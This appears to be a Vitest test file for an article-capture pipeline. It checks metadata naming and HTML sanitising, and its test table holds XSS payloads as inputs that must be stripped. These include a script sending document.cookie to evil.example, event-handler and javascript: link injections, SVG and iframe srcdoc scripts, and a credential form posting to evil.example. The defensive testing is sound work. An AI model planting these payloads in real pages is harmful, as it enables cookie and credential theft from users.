import { describe, expect, it, vi } from 'vitest';
import { jsdomSanitiser } from '../../tests/fixtures/jsdom-sanitiser';
import { MAX_ARTICLE_HTML_CHARS } from './article-html';
import type { ArticleCapture } from './capture-article';
import { prepareCapture } from './prepare-capture';

const text = 'Budget talks collapse\n\nThe finance minister walked out of the budget talks on Tuesday.';
const captureWith = (html: string | null, htmlTooLarge = false): ArticleCapture => ({
  url: 'https://news.example/budget?utm_source=feed',
  title: 'Budget talks collapse',
  byline: null,
  published: '2026-12-01',
  facts: { canonicalLink: null, ogUrl: null, ogSiteName: 'News Example', applicationName: null, author: null, articleAuthor: null, jsonLd: [] },
  text,
  html,
  htmlTooLarge,
  events: [],
});

describe('prepareCapture (the background names and sanitises what a page captured)', () => {
  it('names the canonical address, site and byline from the page\'s facts', async () => {
    const capture = {
      ...captureWith(null),
      byline: 'By staff',
      facts: {
        ...captureWith(null).facts,
        canonicalLink: '/2026/12/01/budget?utm_medium=social',
        ogSiteName: 'U.S.',
        jsonLd: ['{"@type":"NewsArticle","publisher":{"name":"News Example"},"author":[{"name":"Ada Lovelace"}]}'],
      },
    };
    expect((await prepareCapture(capture, jsdomSanitiser)).capture).toMatchObject({
      url: 'https://news.example/budget?utm_source=feed',
      canonicalUrl: 'https://news.example/2026/12/01/budget',
      site: 'News Example',
      byline: 'Ada Lovelace',
    });
  });

  it.each([
    ['a script', '<p>The minister walked out.</p><script>fetch("https://evil.example/?c="+document.cookie)</script>', /<script|evil\.example/],
    ['an onerror image', '<p>The minister walked out.</p><img src=x onerror="alert(document.domain)">', /onerror|alert|\ssrc=/],
    ['a javascript: link', '<p>The minister <a href="javascript:alert(1)">walked out</a>.</p>', /javascript:|href=/],
    ['an entity-encoded javascript: link', '<p>The minister <a href="&#106;avascript:alert(1)">walked out</a>.</p>', /avascript|href=/],
    ['a handler on a paragraph', '<p onmouseover="steal()">The minister walked out.</p>', /onmouseover|steal/],
    ['an SVG with a script', '<p>The minister walked out.</p><svg><script>alert(1)</script><a href="javascript:x">svg</a></svg>', /<svg|<script|javascript:/],
    ['an iframe with srcdoc', '<p>The minister walked out.</p><iframe srcdoc="<script>alert(1)</script>"></iframe>', /<iframe|srcdoc|alert/],
    ['a form', '<p>The minister walked out.</p><form action="https://evil.example"><input name="pw"><button>Go</button></form>', /<form|<input|<button|evil/],
    ['a data: link and a style', '<p style="background:url(https://track.example/p.gif)">The minister walked out.</p><a href="data:text/html,<script>x</script>">more</a>', /style=|track\.example|data:/],
  ])('keeps the article and none of %s', async (_what, html, hostile) => {
    const { capture, copy } = await prepareCapture(captureWith(html), jsdomSanitiser);
    expect(copy).toBe('kept');
    expect(capture.html).toContain('The minister');
    expect(capture.html).toContain('walked out');
    expect(capture.html).not.toMatch(hostile);
    expect(capture.text).toBe(text);
  });

  it('parks image addresses and makes links open apart', async () => {
    const { capture } = await prepareCapture(captureWith('<p>Read <a href="https://ok.example/a">this</a>.</p><img src="https://img.example/a.jpg" alt="The minister">'), jsdomSanitiser);
    expect(capture.html).toContain('<a href="https://ok.example/a" rel="noopener noreferrer" target="_blank">this</a>');
    expect(capture.html).toContain('<img alt="The minister" data-backstory-src="https://img.example/a.jpg">');
  });

  it('keeps only the text of a huge article, however it is huge', async () => {
    // Past the saved copy's bound even without images: sanitised, then left out.
    const huge = `<p>${'The minister walked out of the budget talks. '.repeat(Math.ceil(MAX_ARTICLE_HTML_CHARS / 45) + 10)}</p>`;
    const sanitised = await prepareCapture(captureWith(huge), jsdomSanitiser);
    expect(sanitised).toMatchObject({ copy: 'too-large', capture: { html: null, text } });
    // Past the capture's bound: the page sent none, and nothing is sanitised.
    const sanitise = vi.fn(jsdomSanitiser);
    const cut = await prepareCapture(captureWith(null, true), sanitise);
    expect(cut).toMatchObject({ copy: 'too-large', capture: { html: null, text } });
    expect(sanitise).not.toHaveBeenCalled();
    expect('htmlTooLarge' in cut.capture).toBe(false);
  });

  it('keeps the text, without HTML, when sanitising fails', async () => {
    const warn = vi.spyOn(console, 'warn').mockImplementation(() => {});
    const failed = await prepareCapture(captureWith('<p>The minister walked out.</p>'), async () => {
      throw new Error('the offscreen document did not answer');
    });
    expect(failed).toMatchObject({ copy: 'failed', capture: { html: null, text, title: 'Budget talks collapse' } });
    expect(warn).toHaveBeenCalledOnce();
    warn.mockRestore();
  });

  it('says so when a page gives no HTML, or HTML with nothing left once sanitised', async () => {
    expect((await prepareCapture(captureWith(null), jsdomSanitiser)).copy).toBe('none');
    expect(await prepareCapture(captureWith('<script>alert(1)</script><style>p{}</style>'), jsdomSanitiser)).toMatchObject({ copy: 'none', capture: { html: null, text } });
  });
});
